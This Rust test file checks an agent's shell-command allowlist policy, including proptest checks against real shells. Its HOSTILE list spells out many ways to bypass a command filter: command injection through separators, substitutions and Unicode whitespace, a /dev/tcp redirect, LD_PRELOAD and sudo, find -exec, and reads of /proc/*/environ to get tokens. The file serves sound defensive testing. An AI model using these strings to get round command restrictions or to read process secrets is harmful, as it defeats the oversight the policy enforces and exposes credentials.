//! Lines the policy must let through, lines it must not, and a shell as the judge of both.

use std::path::Path;

use exec_policy::Verdict;
use proptest::prelude::*;

use super::*;

fn judge(line: &str, settings: &ExecSettings) -> Result<(), String> {
    let places = Places::new("/usr/bin:/bin", "/".into(), "/root".into());
    let rules = settings.rules("main").unwrap();
    match exec_policy::judge(&rules, &settings.wish(line, &places)).verdict {
        Verdict::Allowed(_) | Verdict::Ask { otherwise: Ok(_), .. } => Ok(()),
        Verdict::Ask { otherwise: Err(denied), .. } | Verdict::Denied(denied) => Err(refusal(&denied, settings)),
    }
}

fn allowed(line: &str) -> bool {
    judge(line, &ExecSettings::default()).is_ok()
}

/// A-8.6
#[test]
fn everyday_reading_is_allowed() {
    for line in [
        "ls",
        "ls -la ~/projects",
        "cat a.txt | grep -n 'x y' | head -20",
        "pwd; whoami; uname -a",
        "find . -name '*.rs' -newer Cargo.toml | wc -l",
        "date +%Y-%m-%d",
        "date -u -Iseconds",
        "sort -k2,2n -r data | uniq -c | sort -rn",
        "du -sh ./* 2>/dev/null",
        "cd src && ls a*.rs",
        "grep -rn \"fn main\" src 2>&1 | tail",
        "cat /proc/meminfo",
        "ps aux",
    ] {
        assert!(allowed(line), "{line}: {:?}", judge(line, &ExecSettings::default()));
    }
}

/// Every way known to us of getting a reading program, or the shell itself, to do more than read.
const HOSTILE: &[&str] = &[
    // programs that are not on the list, however they are written
    "evil",
    "ls; evil",
    "ls && evil",
    "ls || evil",
    "ls | evil",
    "ls\nevil",
    "e''vil",
    "\\evil",
    "\"evil\"",
    "./ls",
    "/bin/ls",
    "~/ls",
    "LS",
    "ls;evil",
    "ls&&evil",
    "ls|evil",
    "ls\n\n;evil",
    "true&&\nevil",
    "ls |\n evil",
    // expansions and groups
    "ls $(evil)",
    "ls `evil`",
    "ls \"$(evil)\"",
    "ls \"`evil`\"",
    "(evil)",
    "{ evil; }",
    "ls <(evil)",
    "ls >(evil)",
    "$X",
    "\"$X\" ls",
    "echo ${X:-$(evil)}",
    "echo $((1))",
    "ls {-o,x}",
    "! evil",
    "f(){ evil;};f",
    "echo \\\nx",
    "echo \"\\\nx\"",
    // files
    "ls > x",
    "ls >> x",
    "ls >| x",
    "ls 2> x",
    "ls &> x",
    "ls >& x",
    "ls > /dev/nullx",
    "ls > /dev/null/x",
    "cat < x",
    "cat << E",
    "cat <<< x",
    "ls > \"/dev/null\"x",
    "ls 1>&2",
    "ls > /dev/tcp/h/1",
    // the background, keywords, builtins
    "evil & ls",
    "ls & evil",
    "if ls; then evil; fi",
    "while ls; do evil; done",
    "for x in a; do evil; done",
    "case x in x) evil;; esac",
    "time evil",
    "exec evil",
    "eval evil",
    "command evil",
    "builtin evil",
    ". ./evil",
    "source evil",
    "trap evil EXIT",
    "alias ls=evil",
    "export X=1",
    "read X",
    "printf -v PATH /tmp",
    "test -v 'a[$(evil)]'",
    "[ -v 'a[$(evil)]' ]",
    "[[ x ]]",
    "unset PATH",
    "set -x",
    "coproc evil",
    "hash -p /tmp/evil ls",
    "enable -f x ls",
    // variables
    "PATH=/tmp ls",
    "X=1 ls",
    "X=1",
    "LD_PRELOAD=/tmp/x ls",
    "env evil",
    "env -S evil ls",
    // programs that start programs or write
    "xargs evil",
    "ls | xargs evil",
    "sh -c evil",
    "bash -c evil",
    "awk 'BEGIN{system(\"evil\")}'",
    "sed 's/x/evil/e'",
    "sed -i s/a/b/ x",
    "perl -e 1",
    "python3 -c 1",
    "node -e 1",
    "tee x",
    "dd of=x",
    "nice evil",
    "nohup evil",
    "timeout 1 evil",
    "sudo evil",
    "git log",
    "less x",
    "man x",
    "vi x",
    "tar cf x y",
    "cp a b",
    "rm x",
    "mv a b",
    // harmless programs with an option that is not
    "find . -exec evil {} +",
    "find . -exec evil ;",
    "find . -execdir evil",
    "find . -ok evil",
    "find . -delete",
    "find . -fprint x",
    "find . -fprintf x y",
    "find . -fls x",
    "sort -o x y",
    "sort -ro x y",
    "sort --output=x y",
    "sort --out x y",
    "sort --compress-program=evil y",
    "sort --comp evil",
    "sort '-o' x",
    "sort -\\o x",
    "uniq a b",
    "uniq d*",
    "uniq -c a b",
    "tree -o x",
    "tree -R -H . -L 1",
    "rg --pre evil x",
    "rg --pre=evil x",
    "rg -z x",
    "rg --hostname-bin evil x",
    "file -C -m x",
    "file -z x",
    "date -s 2020-01-01",
    "date --set=x",
    "date 010203042020",
    "hostname evil",
    "diff -l a b",
    "diff --paginate a b",
    "diff --pag a b",
    "sort \"--out\\\nput=x\" y",
    // patterns that may match a file called `-o…`, and patterns in place of a program
    "sort *",
    "ls ?x",
    "sort [-]ox",
    "/b?n/evil",
    "* x",
    "sort -* x",
    // secrets of the Gateway
    "cat /proc/1/environ",
    "cat /proc/self/environ",
    "cd /proc/1 && cat environ",
    "strings /proc/*/environ",
    "ps e",
    "ps auxe",
    "ps -E",
    "cat ../../proc/1/environ",
    "grep -a TOKEN /proc/1/environ",
    "cat /pro*/1/env*",
    // what a person would not see
    "ls\u{a0}evil",
    "ls\u{2028}evil",
    "ls\revil",
    "ls \u{0}evil",
    "ls\u{b}evil",
    "echo '\u{1b}[2J'",
    "ls # evil",
];

/// A-8.6
#[test]
fn the_hostile_corpus_is_refused_with_a_way_out() {
    for line in HOSTILE {
        let refusal = judge(line, &ExecSettings::default()).expect_err(line);
        assert!(refusal.contains("openclaw config set tools.exec."), "{line}: {refusal}");
    }
}

/// A-8.6
#[test]
fn a_refusal_names_the_program_and_the_exact_command_that_widens() {
    let settings = ExecSettings { allowlist: vec!["git log".into()], ..ExecSettings::default() };
    let refusal = judge("ls && cargo test", &settings).unwrap_err();
    assert!(refusal.contains("`cargo`"), "{refusal}");
    assert!(refusal.contains(r#"`openclaw config set tools.exec.allowlist '["git log","cargo"]'`"#), "{refusal}");
    assert!(refusal.contains("`openclaw config set tools.exec.security full`"), "{refusal}");
    let denied = judge("ls", &ExecSettings { security: Security::Deny, ..settings.clone() }).unwrap_err();
    assert!(denied.contains("`openclaw config set tools.exec.security allowlist`"), "{denied}");
    assert!(judge("anything > x", &ExecSettings { security: Security::Full, ..settings }).is_ok());
}

/// A-8.6
#[test]
fn an_entry_covers_its_program_or_its_first_words() {
    let settings = ExecSettings {
        allowlist: vec!["git log".into(), "/opt/x/run".into(), "find".into(), " ".into(), "/srv/*/b?n".into()],
        ..ExecSettings::default()
    };
    for (line, fine) in [
        ("git log --oneline", true),
        ("git push", false),
        ("git", false),
        ("/opt/x/run a", true),
        ("run a", false),
        ("find . -delete", true),
        ("git log | evil", false),
        ("git log > x", false),
        ("/srv/any/bin", true),
        ("/srv/a/b/bin", false),
        ("/srv/any/b/n", false),
    ] {
        assert_eq!(judge(line, &settings).is_ok(), fine, "{line}");
    }
}

/// A-8.6
#[test]
fn the_policy_without_any_config_is_that_of_an_empty_one() {
    let (ours, theirs) = (ExecSettings::default(), ExecSettings::from(&config::ExecConfig::default()));
    assert_eq!((ours.security, ours.timeout, ours.wait), (theirs.security, theirs.timeout, theirs.wait));
    assert_eq!((ours.ask, ours.safe_bins), (theirs.ask, theirs.safe_bins));
    assert_eq!((ours.allowlist, ours.path_prepend), (theirs.allowlist, theirs.path_prepend));
}

/// N-12.3, A-8.6: the host's document narrows what the config allows, and lists programs of its own.
#[test]
fn the_hosts_document_has_a_word() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("exec-approvals.json");
    let full = ExecSettings { security: Security::Full, approvals: Some(file.clone()), ..ExecSettings::default() };
    let listed = ExecSettings { security: Security::Allowlist, ..full.clone() };
    assert!(judge("anything > x", &full).is_ok() && judge("env", &listed).is_err(), "no document, no word");
    let write = |text: &str| base::write_atomic(&file, text.as_bytes()).unwrap();
    write(r#"{"version": 1, "agents": {"main": {"allowlist": [{"pattern": "id"}, {"pattern": "/usr/bin/du"}]}}}"#);
    assert!(judge("anything > x", &full).is_ok(), "where it is silent the config counts");
    assert!(judge("ls | id -u", &listed).is_ok() && judge("ls; tee x", &listed).is_err());
    write(r#"{"version": 1, "defaults": {"security": "allowlist"}}"#);
    assert!(judge("anything > x", &full).is_err() && judge("ls", &full).is_ok());
    write(r#"{"version": 1, "defaults": {"security": "deny"}}"#);
    assert!(judge("ls", &full).unwrap_err().contains("openclaw approvals get"));
    write("{");
    assert!(full.rules("main").unwrap_err().contains("not understood"), "then nothing runs");
}

/// The shells at hand; the same line can mean different things to them.
fn shells() -> Vec<PathBuf> {
    ["sh", "dash", "bash"].into_iter().filter_map(|name| which::which(name).ok()).collect()
}

/// A folder where every program, harmless or not, is a script that only writes down its own name.
fn traced_programs() -> tempfile::TempDir {
    use std::os::unix::fs::PermissionsExt as _;
    let folder = tempfile::tempdir().unwrap();
    let names = harmless_programs().chain(["evil", "sh", "env", "xargs", "rm", "e", "vil", "-o", "1", "x"]);
    for name in names {
        let path = folder.path().join(name);
        std::fs::write(&path, format!("#!/bin/sh\necho {name} >> \"${{PATH%/bin}}/ran\"\n")).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    folder
}

/// What `shell` really runs for `line`, and what it leaves behind.
fn really_run(shell: &Path, programs: &Path, line: &str) -> (Vec<String>, Vec<String>) {
    let home = tempfile::tempdir().unwrap();
    let (bin, cwd) = (home.path().join("bin"), home.path().join("cwd"));
    std::os::unix::fs::symlink(programs, &bin).unwrap();
    std::fs::create_dir(&cwd).unwrap();
    let status = std::process::Command::new(shell)
        .args(["-c", line])
        .env_clear()
        .env("PATH", &bin)
        .env("X", "evil")
        .current_dir(&cwd)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status();
    status.unwrap();
    let ran = std::fs::read_to_string(home.path().join("ran")).unwrap_or_default();
    let left = std::fs::read_dir(&cwd).unwrap().map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned());
    (ran.lines().map(str::to_owned).collect(), left.collect())
}

/// Lines of harmless words with a few that are not, some of them run together.
fn lines() -> impl Strategy<Value = String> {
    let words = prop::sample::select(vec![
        "ls", "cat", "echo", "sort", "cd", "pwd", "true", "x", "-l", "a=b", "'a b'", "~", "./*",
    ]);
    let joints = prop::sample::select(vec![";", "|", "||", "&&", "\n", "2>&1", ">/dev/null", "2>/dev/null", "\t"]);
    let tricks = prop::sample::select(vec![
        "evil", "&", "'", "\"", "\\", "$X", "$(evil)", "`evil`", "(", ")", "{", "}", ">", "<", "#", "!", "=", "*",
        "-o", "--", "if", "then", "fi", "2", "1", "[",
    ]);
    let piece = prop_oneof![8 => words, 4 => joints, 1 => tricks];
    let spaced = prop::collection::vec((piece, prop::bool::weighted(0.8)), 1..9);
    spaced.prop_map(|parts| parts.into_iter().flat_map(|(part, gap)| [part, if gap { " " } else { "" }]).collect())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    /// A-8.6: whatever is let through, no shell finds a program in it that is not on the list, nor a file to write.
    #[test]
    fn an_allowed_line_never_runs_a_program_outside_the_list(line in lines()) {
        if allowed(&line) {
            let programs = TRACED.with(|folder| folder.path().to_owned());
            for shell in shells() {
                let (ran, left) = really_run(&shell, &programs, &line);
                prop_assert!(ran.iter().all(|name| harmless_programs().any(|known| known == name)), "{line:?} ran {ran:?}");
                prop_assert!(left.is_empty(), "{line:?} left {left:?} with {shell:?}");
            }
        }
    }
}

thread_local! {
    static TRACED: tempfile::TempDir = traced_programs();
}

/// The oracle above is worth nothing if it sees nothing.
#[test]
fn the_shell_oracle_notices_programs_and_files() {
    let programs = traced_programs();
    for shell in shells() {
        let (ran, left) = really_run(&shell, programs.path(), "ls; cat $(evil) > made");
        assert_eq!((ran, left), (vec!["ls".into(), "evil".into(), "cat".into()], vec!["made".into()]), "{shell:?}");
    }
}
